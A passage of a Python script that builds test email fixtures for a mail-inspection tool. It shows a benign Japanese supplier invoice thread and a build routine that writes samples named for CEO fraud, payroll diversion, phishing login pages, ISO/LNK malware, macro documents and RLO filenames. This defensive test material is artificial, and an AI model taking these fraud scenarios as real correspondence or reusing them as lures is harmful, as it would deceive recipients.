             "請求は従来どおりの口座宛てで来るとのことです。\n\n"
             "-----Original Message-----\n"
             "From: 小金部品 営業部 田中 一郎 <%s>\n"
             "Sent: Monday, February 3, 2025 2:15 PM\n"
             "To: 総務部 高橋 健一 <%s>\n"
             "Subject: Re: %s\n\n" % (TANAKA[1], TAKAHASHI[1], BENIGN_SUBJECT)) + body2
    m3 = plain_mail(passing(TAKAHASHI[1], VICTIM, "mail01." + VICTIM, "192.0.2.25",
                            "4YZa0000003z1b3", "Mon, 3 Feb 2025 15:00:02 +0900 (JST)",
                            SATO[1]) + [
        dkim(VICTIM, "benign3"),
        ("From", addr(*TAKAHASHI)),
        ("To", addr(*SATO)),
        ("Subject", "FW: Re: " + ew(BENIGN_SUBJECT)),
        ("Date", "Mon, 3 Feb 2025 15:00:00 +0900"),
        ("Message-ID", ids[2]),
        ("X-Mailer", "Microsoft Outlook 16.0"),
    ], body3)
    body4 = ("高橋さん\n\n経理の佐藤です。承知しました。\n"
             "お支払いは従来どおり みなと銀行 普通 1234567 で処理します。\n\n"
             "差出人: 総務部 高橋 健一 <%s>\n"
             "送信日時: 2025年2月3日 15:00\n"
             "宛先: 経理部 佐藤 花子 <%s>\n"
             "件名: FW: Re: %s\n\n" % (TAKAHASHI[1], SATO[1], BENIGN_SUBJECT)) + quote(body3)
    m4 = plain_mail(passing(SATO[1], VICTIM, "mail01." + VICTIM, "192.0.2.25",
                            "4YZa0000004z1b4", "Mon, 3 Feb 2025 16:30:02 +0900 (JST)",
                            TAKAHASHI[1]) + [
        dkim(VICTIM, "benign4"),
        ("From", addr(*SATO)),
        ("To", addr(*TAKAHASHI)),
        ("Subject", ew("返信: FW: Re: " + BENIGN_SUBJECT)),
        ("Date", "Mon, 3 Feb 2025 16:30:00 +0900"),
        ("Message-ID", ids[3]),
    ], body4)
    body5 = ("高橋様\n\n田中です。念のため、お振込先は従来どおり\n"
             "みなと銀行 本店営業部 普通 1234567 でお願いいたします。\n\n--\n田中 一郎\n")
    m5 = plain_mail(passing(TANAKA[1], PARTNER, "smtp." + PARTNER, "192.0.2.60",
                            "4YZa0000005z1b5", "Tue, 4 Feb 2025 10:00:04 +0900 (JST)",
                            TAKAHASHI[1]) + [
        dkim(PARTNER, "benign5"),
        ("From", addr(*TANAKA)),
        ("To", addr(*TAKAHASHI)),
        ("Cc", addr(*YAMAMOTO)),
        ("Subject", ew("Ｒｅ：" + BENIGN_SUBJECT)),
        ("Date", "Tue, 4 Feb 2025 10:00:00 +0900"),
        ("Message-ID", ids[4]),
        ("In-Reply-To", ids[1]),
    ], body5)
    body6 = ("高橋様\n\n小金部品 出荷担当の山本です。\n"
             "部品Aを本日出荷いたしました。2月14日に到着予定です。\n\n--\n山本 三郎\n\n"
             "On Tue, Feb 4, 2025 at 10:00 AM 小金部品 営業部 田中 一郎 <%s> wrote:\n"
             % TANAKA[1]) + quote(body5)
    m6 = plain_mail(passing(YAMAMOTO[1], PARTNER, "smtp." + PARTNER, "192.0.2.60",
                            "4YZa0000006z1b6", "Wed, 5 Feb 2025 11:30:04 +0900 (JST)",
                            TAKAHASHI[1]) + [
        dkim(PARTNER, "benign6"),
        ("From", addr(*YAMAMOTO)),
        ("To", addr(*TAKAHASHI)),
        ("Cc", addr(*TANAKA)),
        ("Subject", ew("[外部] RE: " + BENIGN_SUBJECT)),
        ("Date", "Wed, 5 Feb 2025 11:30:00 +0900"),
        ("Message-ID", ids[5]),
    ], body6)
    return [m1, m2, m3, m4, m5, m6]


# ---------------------------------------------------------------- writing

def build(out_dir):
    ja = ceo_fraud_ja()
    samples = {
        "benign_control.eml": benign_control(),
        "ceo_fraud_ja.eml": ja,
        "ceo_fraud_en.eml": ceo_fraud_en(),
        "localized_ceo_fraud.eml": localized_ceo_fraud(),
        "payroll_diversion.eml": payroll_diversion(),
        "invoice_thread_original.eml": invoice_thread_original(),
        "invoice_lookalike_thread.eml": invoice_lookalike_thread(),
        "phishing_html_login.eml": phishing_html_login(),
        "malware_iso_lnk.eml": malware_iso_lnk(),
        "macro_doc.eml": macro_doc(),
        "image_only_link.eml": image_only_link(),
        "rlo_filename.eml": rlo_filename(),
        "hostile_subject.eml": hostile_subject(),
        "forwarded_rfc822.eml": forwarded(ja, True),
        "forwarded_octet.eml": forwarded(ja, False),
        "spf_fail_forged_ar.eml": spf_fail_forged_ar(),
        "routing_reversed.eml": routing_reversed(),
    }
    mbox = b""
    for name in sorted(samples):
        data = samples[name].encode("utf-8")
        check(name, data)
        with open(os.path.join(out_dir, name), "wb") as f:
            f.write(data)
        mbox += mbox_entry(data)
    with open(os.path.join(out_dir, "mailbox.mbox"), "wb") as f:
        f.write(mbox)
    # whole conversations for `kensa thread` (kept out of mailbox.mbox)
    threads = {"thread_hijack.mbox": thread_hijack(), "thread_benign.mbox": thread_benign()}
    for name, mails in sorted(threads.items()):
        data = b""
        for i, m in enumerate(mails):
            raw = m.encode("utf-8")
            check("%s:%d" % (name, i + 1), raw)
            data += mbox_entry(raw)
        with open(os.path.join(out_dir, name), "wb") as f:
            f.write(data)
    print("samples: wrote %d messages, mailbox.mbox and %s" % (len(samples), ", ".join(sorted(threads))))


def mbox_entry(data):
    """One mboxrd entry: a "From " line (envelope sender, the Date in UTC asctime),
    body lines matching ^>*From  quoted with one more '>', and a blank line after."""
    msg = email.message_from_bytes(data, policy=email.policy.compat32)
    sender = email.utils.parseaddr(msg["Return-Path"] or msg["From"])[1] or "MAILER-DAEMON"
    when = email.utils.parsedate_to_datetime(msg["Date"]).astimezone(datetime.timezone.utc)
    out = ["From %s %s" % (sender, when.strftime("%a %b %d %H:%M:%S %Y"))]
    for line in data.decode("utf-8").split("\n")[:-1]:
        out.append(">" + line if line.lstrip(">").startswith("From ") else line)
    return ("\n".join(out) + "\n\n").encode("utf-8")


def check(name, data):
    """Self-check: the message parses, and every zip, PDF and ISO is what it claims."""
    msg = email.message_from_bytes(data, policy=email.policy.default)
    assert msg["From"] and msg["Date"] and msg["Message-ID"], name
    for p in msg.walk():
        fn = p.get_filename()
        if not fn or p.get_content_maintype() == "message":
            continue
        payload = p.get_payload(decode=True)
        if fn.endswith((".zip", ".zi_", ".docm")):
            with zipfile.ZipFile(io.BytesIO(payload)) as z:
                infos = z.infolist()
                assert infos, name
                if fn.endswith(".zi_"):
                    assert all(i.flag_bits & 1 for i in infos), name
                else:
                    assert z.testzip() is None, name
        elif fn.endswith(".pdf"):
            assert payload.startswith(b"%PDF-") and payload.rstrip().endswith(b"%%EOF"), name
        elif fn.endswith(".iso"):
            assert payload[32768:32774] == b"\x01CD001", name


if __name__ == "__main__":
    if sys.version_info < (3, 6):
        sys.exit("samples/build.py: needs Python 3.6 or later")
    # --out DIR writes elsewhere (tests compare that with the committed files)
    out = sys.argv[2] if len(sys.argv) == 3 and sys.argv[1] == "--out" else HERE
    build(out)
